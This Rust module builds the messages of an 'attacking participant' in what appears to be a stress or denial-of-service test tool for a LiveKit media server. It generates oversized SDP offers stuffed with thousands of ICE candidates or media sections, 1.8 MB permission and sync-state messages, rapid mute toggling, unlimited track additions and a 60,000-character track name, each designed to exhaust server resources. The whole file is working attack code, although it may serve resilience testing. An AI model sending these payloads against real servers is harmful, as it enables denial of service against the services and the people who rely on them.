//! An attacking participant's messages.

use std::fmt::Write as _;

use livekit_protocol::signal_request::Message as Request;
use livekit_protocol::{
    AddTrackRequest, MuteTrackRequest, SessionDescription, SubscriptionPermission, SyncState,
    TrackPermission, TrackSource, TrackType, UpdateSubscription, UpdateTrackSettings,
};

use super::Attack;

/// Largest message size, below the server's limit for WebSocket messages.
const LARGE: usize = 1_800_000;
/// Candidates per offer.
const CANDIDATES: usize = 8_000;
/// Media sections in an accepted offer, and in a refused one.
const SECTIONS: usize = 1_000;
const TOO_MANY_SECTIONS: usize = 10_000;
/// Tracks per settings message: 15 kB.
const TRACKS: usize = 900;

/// Returns the attacker's first message.
pub fn preparation(attack: Attack) -> Option<Request> {
    (attack == Attack::Mutes).then(|| Request::AddTrack(track("microphone")))
}

/// Returns the message with this number. `track_sid` is the sid of the first announced track.
pub fn message(attack: Attack, number: u64, track_sid: &str) -> Request {
    match attack {
        Attack::CandidateOffers => offer(number, &candidates()),
        Attack::SectionOffers => offer(number, &sections(SECTIONS)),
        Attack::HugeOffers => offer(number, &sections(TOO_MANY_SECTIONS)),
        Attack::TrackSettings => Request::TrackSetting(track_settings(number)),
        Attack::SmallOffers => offer(number, &"a=ssrc:1 cname:x\r\n".repeat(60)),
        Attack::Mutes => Request::Mute(MuteTrackRequest {
            sid: track_sid.to_owned(),
            muted: number.is_multiple_of(2),
        }),
        Attack::Tracks => Request::AddTrack(track(&format!("track-{number}"))),
        Attack::SyncStates => Request::SyncState(sync_state()),
        Attack::Unread => Request::AddTrack(AddTrackRequest {
            name: "x".repeat(60_000),
            ..track("refused")
        }),
        _ => Request::SubscriptionPermission(permissions()),
    }
}

fn track(cid: &str) -> AddTrackRequest {
    AddTrackRequest {
        cid: cid.to_owned(),
        name: cid.to_owned(),
        r#type: TrackType::Audio.into(),
        source: TrackSource::Microphone.into(),
        ..AddTrackRequest::default()
    }
}

/// Returns an offer with a data channel and additional lines.
fn offer(number: u64, more: &str) -> Request {
    let sdp = format!(
        "v=0\r\no=- {number} {number} IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n\
         m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=ice-ufrag:abcd\r\n\
         a=ice-pwd:0123456789012345678901\r\na=ice-options:trickle\r\na=fingerprint:sha-256 {}\r\na=setup:actpass\r\n\
         a=mid:0\r\na=sctp-port:5000\r\na=max-message-size:262144\r\n{more}",
        ["00"; 32].join(":")
    );
    let id = u32::try_from(number).unwrap_or(u32::MAX);
    Request::Offer(SessionDescription {
        r#type: "offer".to_owned(),
        sdp,
        id,
        ..SessionDescription::default()
    })
}

fn candidates() -> String {
    let mut text = String::new();
    for number in 0..CANDIDATES {
        let (address, port) = (number / 250 % 250, 1024 + number % 60_000);
        // Writing to a string cannot fail.
        let _ = write!(
            text,
            "a=candidate:{number} 1 udp 2122260223 10.{address}.0.{} {port} typ host\r\n",
            number % 250 + 1
        );
    }
    text
}

fn sections(count: usize) -> String {
    let section = |number: usize| {
        format!(
            "m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:{number}\r\na=sendonly\r\na=rtcp-mux\r\n\
             a=rtpmap:111 opus/48000/2\r\na=ssrc:{number} cname:x\r\n"
        )
    };
    (1..count).map(section).collect()
}

fn track_settings(number: u64) -> UpdateTrackSettings {
    let track_sids = (0..TRACKS)
        .map(|track| format!("TR_{number:04}{track:08}"))
        .collect();
    UpdateTrackSettings {
        track_sids,
        width: 640,
        height: 360,
        ..UpdateTrackSettings::default()
    }
}

fn permissions() -> SubscriptionPermission {
    let entry = |number: usize| TrackPermission {
        participant_identity: format!("participant-{number}-{}", "x".repeat(60)),
        ..TrackPermission::default()
    };
    SubscriptionPermission {
        all_participants: false,
        track_permissions: (0..LARGE / 80).map(entry).collect(),
    }
}

fn sync_state() -> SyncState {
    let sids = (0..LARGE / 20)
        .map(|number| format!("TR_{number:014}"))
        .collect();
    let subscription = UpdateSubscription {
        track_sids: sids,
        subscribe: true,
        participant_tracks: Vec::new(),
    };
    SyncState {
        subscription: Some(subscription),
        ..SyncState::default()
    }
}
